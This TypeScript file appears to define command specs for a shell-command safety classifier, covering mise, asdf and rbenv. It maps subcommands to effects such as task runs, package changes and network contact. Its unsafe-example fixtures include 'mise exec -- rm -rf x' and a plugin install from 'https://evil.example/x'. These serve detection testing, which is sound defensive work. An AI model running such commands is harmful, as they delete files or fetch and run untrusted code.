/** Version managers for tools: mise, asdf. */
import { act } from "../../contract/effect.ts";
import { refused, understood } from "../disk-makers.ts";
import { codeOfWords, each, line, network, runs, task } from "../makers.ts";
import type { EffectMaker, ProgramSpec } from "../spec.ts";
import { runsBehind, wholly } from "./packages-effects.ts";

const trusted: EffectMaker = runs("helper", "the project's own configuration may run code");

export const packagesTools: readonly ProgramSpec[] = [
  {
    names: "mise rtx",
    launches: "run r exec x",
    runner: "mise",
    style: "posix",
    flags: "--version -V --help -h -q --quiet -v --verbose -y --yes --silent",
    values: { cwd: "-C --cd", text: "-E --env -j --jobs" },
    operands: { max: 0 },
    commands: {
      ...each(
        "run r",
        wholly((use) => [{ do: "run", program: "mise", what: "task", task: line(use.operands) }]),
      ),
      ...each("exec x", {
        style: "words",
        operands: "text",
        read: (use) => {
          const dashes = use.operands.findIndex((word) => word.value === "--");
          const command = use.operands.findIndex((word) => word.value === "-c" || word.value === "--command");
          const effect = {
            do: "run",
            program: "mise",
            what: "task",
            task: `exec ${line(use.operands)}`,
          } as const;
          const code = command < 0 ? undefined : codeOfWords(use.operands.slice(command + 1, command + 2));
          if (code) return understood([effect], [{ kind: "script", code, via: "mise exec" }]);
          return dashes < 0
            ? refused("mise exec without --", [effect])
            : understood(
                [effect],
                [{ kind: "words", words: use.operands.slice(dashes + 1), via: "mise exec", moreWords: false }],
              );
        },
      }),
      ...each(
        "ls list current where which bin-paths doctor tasks t env settings config version ls-remote",
        wholly(trusted),
      ),
      ...each(
        "install i use u upgrade up uninstall rm prune plugins plugin",
        wholly(act("package.change"), trusted, network(null, false)),
      ),
      ...each("trust untrust", wholly(act("guard.config-trust"))),
      ...each("activate deactivate set unset alias self-update implode reshim", wholly(act("start.shell"))),
      ...each("watch w", wholly(task)),
      "*": wholly((use) => [{ do: "run", program: "mise", what: "task", task: line(use.operands) }]),
    },
    safe: ["mise --version"],
    unsafe: [
      ["mise run test -- -run TestX", ["run.task", "unknown.use"]],
      ["mise exec -- rm -rf x", ["run.task", "file.delete"]],
      ["mise install", ["package.change", "run.helper", "network.contact"]],
      ["mise trust", ["guard.config-trust"]],
      ["mise ls", ["run.helper"]],
    ],
  },
  {
    names: "asdf",
    launches: "exec",
    style: "posix",
    flags: "--version --help",
    operands: { max: 0 },
    commands: {
      ...each("list current where which info version", { style: "words", operands: "text", always: [trusted] }),
      exec: { launcher: true, style: "words", operands: "text", read: runsBehind("", "", "asdf exec") },
      ...each(
        "install uninstall plugin plugin-add global local shell set latest reshim update",
        wholly(act("package.change"), network(null, false), task),
      ),
    },
    safe: ["asdf --version"],
    unsafe: [
      ["asdf install nodejs 20", ["package.change", "network.contact", "run.task"]],
      ["asdf plugin add x https://evil.example/x", ["package.change", "network.contact", "run.task"]],
    ],
  },
  {
    names: "rbenv",
    unread: true,
    launches: "exec",
    unsafe: [["rbenv exec rm a", ["run.unknown-program", "unknown.use"]]],
  },
];
